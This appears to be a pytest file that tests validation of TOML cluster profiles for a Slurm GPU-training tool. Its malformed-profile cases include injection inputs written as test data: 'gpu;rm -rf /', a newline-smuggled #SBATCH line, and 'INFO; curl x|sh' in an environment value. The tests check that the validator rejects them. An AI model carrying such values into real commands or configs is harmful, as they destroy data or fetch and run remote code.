"""Cluster profiles: every shipped one validates; malformed ones fail with their one-line error."""

from __future__ import annotations

from pathlib import Path

import pytest

from clusterctl.planning.profiles import (
    builtin_dir,
    comm_env,
    find_profile,
    load_profile,
    read_profile,
    slurm_time_to_minutes,
)
from vltrain.common.errors import UserError

SHIPPED = sorted(p.stem for p in builtin_dir().glob("*.toml"))

BASE = """\
name = "bad"
description = "a test profile"
executor = "slurm"

[nodes]
count = 2
gpus_per_node = 8
cpus_per_node = 64
memory_gib = 500

[gpu]
model = "A100-SXM4-80GB"
memory_gib = 80
peak_bf16_tflops = 312
power_w = 400

[interconnect]
intra_node = "nvlink"
inter_node = "infiniband"

[slurm]
partition = "gpu"
time_limit = "48:00:00"

[site]
country_iso = "FRA"
pue = 1.1
"""


def test_all_seven_profiles_are_shipped():
    assert {"a100x32", "a100x64", "a100x128", "a100x256", "h100x128", "local", "slurm-local"} <= set(SHIPPED)


@pytest.mark.parametrize("name", SHIPPED)
def test_shipped_profile_validates(name):
    p = read_profile(builtin_dir() / f"{name}.toml")
    assert p.name == name
    assert p.world_size == p.nodes.count * p.nodes.gpus_per_node


@pytest.mark.parametrize(
    "name, gpus, nodes, country, seed",
    [
        ("a100x32", 32, 4, "FRA", "000"),
        ("a100x128", 128, 16, "JPN", "001"),
        ("a100x64", 64, 8, "FRA", "002"),
        ("h100x128", 128, 16, "SGP", "003"),
        ("a100x256", 256, 32, "JPN", "004"),
    ],
)
def test_seed_profiles_match_the_seeds(name, gpus, nodes, country, seed):
    p = load_profile(name)
    assert (p.world_size, p.nodes.count, p.site.country_iso, p.seed) == (gpus, nodes, country, seed)
    assert p.gpu.memory_gib == 80


def test_derived_figures_of_a100x64():
    d = load_profile("a100x64").derived()
    assert d["world_size"] == 64
    assert d["peak_bf16_pflops"] == pytest.approx(64 * 312 / 1000)
    assert d["gpu_power_kw"] == pytest.approx(25.6)
    assert d["total_gpu_memory_gib"] == 64 * 80
    assert d["comm_env"]["NCCL_IB_DISABLE"] == "0" and d["comm_env"]["NCCL_P2P_LEVEL"] == "NVL"


def test_comm_env_follows_fabric():
    cpu = load_profile("local")
    assert cpu.dist_backend == "gloo" and "NCCL_IB_DISABLE" not in comm_env(cpu)
    assert comm_env(load_profile("slurm-local"))["GLOO_SOCKET_IFNAME"] == "lo"


@pytest.mark.parametrize(
    "text, minutes",
    [("30", 30), ("30:30", 30.5), ("48:00:00", 2880), ("2-00", 2880), ("1-12:30", 2190), ("0-00:01:30", 1.5)],
)
def test_slurm_time_formats(text, minutes):
    assert slurm_time_to_minutes(text) == pytest.approx(minutes)


@pytest.mark.parametrize("text", ["48h", "1:2:3:4", "-5", "2-", "1-25:00", "10:75", "abc", ""])
def test_bad_slurm_times(text):
    with pytest.raises(ValueError):
        slurm_time_to_minutes(text)


ALLOWED_TOP = "allowed: name, description, executor, nodes, gpu, interconnect, site, slurm, storage, container, cost, setup, seed, recipe, calibration"
MALFORMED = [
    (
        "unknown site key",
        "pue = 1.1\n",
        "pue = 1.1\nbogus = 1\n",
        "site.bogus: unknown key; allowed: country_iso, pue, carbon_intensity_g_per_kwh",
    ),
    (
        "unknown top key 2",
        'executor = "slurm"',
        'executor = "slurm"\ncolour = "red"',
        f"colour: unknown key; {ALLOWED_TOP}",
    ),
    (
        "unknown nested key",
        "count = 2",
        "count = 2\nsockets = 2",
        "nodes.sockets: unknown key; allowed: count, gpus_per_node, cpus_per_node, memory_gib, non_gpu_power_w",
    ),
    (
        "negative nodes",
        "count = 2",
        "count = -1",
        "nodes.count: -1 is out of range; allowed: an integer from 1 to 100,000",
    ),
    (
        "zero gpus",
        "gpus_per_node = 8",
        "gpus_per_node = 0",
        "nodes.gpus_per_node: 0 is out of range; allowed: an integer from 1 to 64",
    ),
    ("string count", "count = 2", 'count = "2"', "nodes.count: '2' is not an integer; allowed: an integer"),
    ("float count", "count = 2", "count = 2.5", "nodes.count: 2.5 is not an integer; allowed: an integer"),
    ("bool count", "count = 2", "count = true", "nodes.count: true is not an integer; allowed: an integer"),
    (
        "bad time",
        'time_limit = "48:00:00"',
        'time_limit = "48h"',
        "slurm.time_limit: '48h' is not a Slurm time limit; allowed: MM, MM:SS, HH:MM:SS, D-HH, D-HH:MM or D-HH:MM:SS",
    ),
    (
        "zero time",
        'time_limit = "48:00:00"',
        'time_limit = "0"',
        "slurm.time_limit: '0' is zero; allowed: MM, MM:SS, HH:MM:SS, D-HH, D-HH:MM or D-HH:MM:SS",
    ),
    ("bad partition", 'partition = "gpu"', 'partition = "gpu;rm -rf /"', None),
    ("newline partition", 'partition = "gpu"', 'partition = "gpu\\n#SBATCH --x"', None),
    (
        "bad fabric",
        'inter_node = "infiniband"',
        'inter_node = "myrinet"',
        "interconnect.inter_node: 'myrinet' is not a known value; allowed: infiniband, roce, ethernet, none",
    ),
    (
        "bad intra",
        'intra_node = "nvlink"',
        'intra_node = "nvswitch"',
        "interconnect.intra_node: 'nvswitch' is not a known value; allowed: nvlink, pcie, none",
    ),
    (
        "bad country format",
        'country_iso = "FRA"',
        'country_iso = "FR"',
        "site.country_iso: 'FR' is not an ISO 3166 alpha-3 code; allowed: an ISO 3166 alpha-3 code such as FRA, JPN, SGP",
    ),
    (
        "unknown country",
        'country_iso = "FRA"',
        'country_iso = "XYZ"',
        "site.country_iso: 'XYZ' is not an ISO 3166 country; allowed: an ISO 3166 alpha-3 code such as FRA, JPN, SGP",
    ),
    ("pue below 1", "pue = 1.1", "pue = 0.9", "site.pue: 0.9 is out of range; allowed: a number from 1 to 3"),
    (
        "negative power",
        "power_w = 400",
        "power_w = -400",
        "gpu.power_w: -400 is out of range; allowed: a number from 1 to 5,000",
    ),
    (
        "missing gpu memory",
        "memory_gib = 80\n",
        "",
        "gpu.memory_gib: missing; allowed: a number (memory per GPU (GiB))",
    ),
    ("missing table", '[site]\ncountry_iso = "FRA"\npue = 1.1\n', "", "site: missing; allowed: a table"),
    ("table as value", 'executor = "slurm"', 'executor = "slurm"\nnodes = 3\n[x]', None),
    (
        "bad executor",
        'executor = "slurm"',
        'executor = "kubernetes"',
        "executor: 'kubernetes' is not a known value; allowed: slurm, local",
    ),
    ("bad env name", 'inter_node = "infiniband"', 'inter_node = "infiniband"\nenv = { "nccl-debug" = "INFO" }', None),
    (
        "env value injection",
        'inter_node = "infiniband"',
        'inter_node = "infiniband"\nenv = { NCCL_DEBUG = "INFO; curl x|sh" }',
        None,
    ),
    ("managed sbatch option", 'time_limit = "48:00:00"', 'time_limit = "48:00:00"\nextra = { nodes = "4" }', None),
    ("name mismatch", 'name = "bad"', 'name = "other"', "name: 'other' differs from the file name; allowed: 'bad'"),
    ("bad name chars", 'name = "bad"', 'name = "Bad Name"', None),
    (
        "slurm executor without slurm",
        '[slurm]\npartition = "gpu"\ntime_limit = "48:00:00"\n',
        "",
        "slurm: missing; allowed: a [slurm] table with at least time_limit (executor = 'slurm')",
    ),
    ("toml syntax", "count = 2", "count = = 2", None),
    (
        "unknown storage key",
        "pue = 1.1\n",
        "pue = 1.1\n[storage]\nwrite_gbps = 5\n",
        "storage.write_gbps: unknown key; allowed: write_gb_s_per_node, write_gb_s_total",
    ),
    (
        "zero storage bandwidth",
        "pue = 1.1\n",
        "pue = 1.1\n[storage]\nwrite_gb_s_per_node = 0\n",
        "storage.write_gb_s_per_node: 0 is out of range; allowed: a number from 0.001 to 10,000",
    ),
    (
        "unknown interconnect key",
        'inter_node = "infiniband"',
        'inter_node = "infiniband"\ninter_node_gbps = 200',
        "interconnect.inter_node_gbps: unknown key; allowed: intra_node, inter_node, ib_hcas, socket_ifname, "
        "intra_node_gb_s, inter_node_gb_s, env",
    ),
    (
        "negative fabric bandwidth",
        'inter_node = "infiniband"',
        'inter_node = "infiniband"\ninter_node_gb_s = -1',
        "interconnect.inter_node_gb_s: -1 is out of range; allowed: a number from 0.01 to 100,000",
    ),
]


@pytest.mark.parametrize("case, old, new, expected", MALFORMED, ids=[m[0] for m in MALFORMED])
def test_malformed_profile_gives_one_line_error(tmp_path: Path, case, old, new, expected):
    assert old in BASE, case
    path = tmp_path / "bad.toml"
    path.write_text(BASE.replace(old, new, 1))
    with pytest.raises(UserError) as info:
        read_profile(path)
    msg = str(info.value)
    assert "\n" not in msg
    assert msg.startswith(f"{path}: ")
    if expected is not None:
        assert msg == f"{path}: {expected}"
    else:
        assert "allowed:" in msg or "invalid TOML" in msg


def test_at_least_twenty_malformed_cases():
    assert len(MALFORMED) >= 20


def test_base_fixture_is_valid(tmp_path: Path):
    path = tmp_path / "bad.toml"
    path.write_text(BASE)
    assert read_profile(path).world_size == 16


def test_lookup_by_env_dir_and_by_path(tmp_path: Path, monkeypatch):
    d = tmp_path / "profiles"
    d.mkdir()
    (d / "bad.toml").write_text(BASE)
    monkeypatch.setenv("CLUSTERCTL_PROFILES", str(d))
    monkeypatch.chdir(tmp_path)
    assert find_profile("bad") == d / "bad.toml"
    assert load_profile(str(d / "bad.toml")).name == "bad"
    # ./cluster_profiles comes before $CLUSTERCTL_PROFILES
    (tmp_path / "cluster_profiles").mkdir()
    (tmp_path / "cluster_profiles" / "bad.toml").write_text(BASE)
    assert find_profile("bad") == tmp_path / "cluster_profiles" / "bad.toml"


def test_unknown_profile_lists_known_ones():
    with pytest.raises(UserError, match=r"--profile: no profile named 'nope'; allowed: .*a100x64"):
        load_profile("nope")


def test_storage_and_fabric_bandwidths_are_optional_with_documented_defaults(tmp_path: Path):
    """Every shipped profile stays valid without them; a profile may state its own."""
    path = tmp_path / "bad.toml"
    path.write_text(BASE)
    p = read_profile(path)
    assert (p.storage.write_gb_s_per_node, p.storage.write_gb_s_total) == (2.0, None)
    assert (p.interconnect.intra_node_gb_s, p.interconnect.inter_node_gb_s) == (None, None)
    path.write_text(
        BASE.replace('inter_node = "infiniband"', 'inter_node = "infiniband"\ninter_node_gb_s = 100')
        + "\n[storage]\nwrite_gb_s_per_node = 10\nwrite_gb_s_total = 40\n"
    )
    p = read_profile(path)
    assert (p.interconnect.inter_node_gb_s, p.storage.write_gb_s_per_node, p.storage.write_gb_s_total) == (
        100.0,
        10.0,
        40.0,
    )
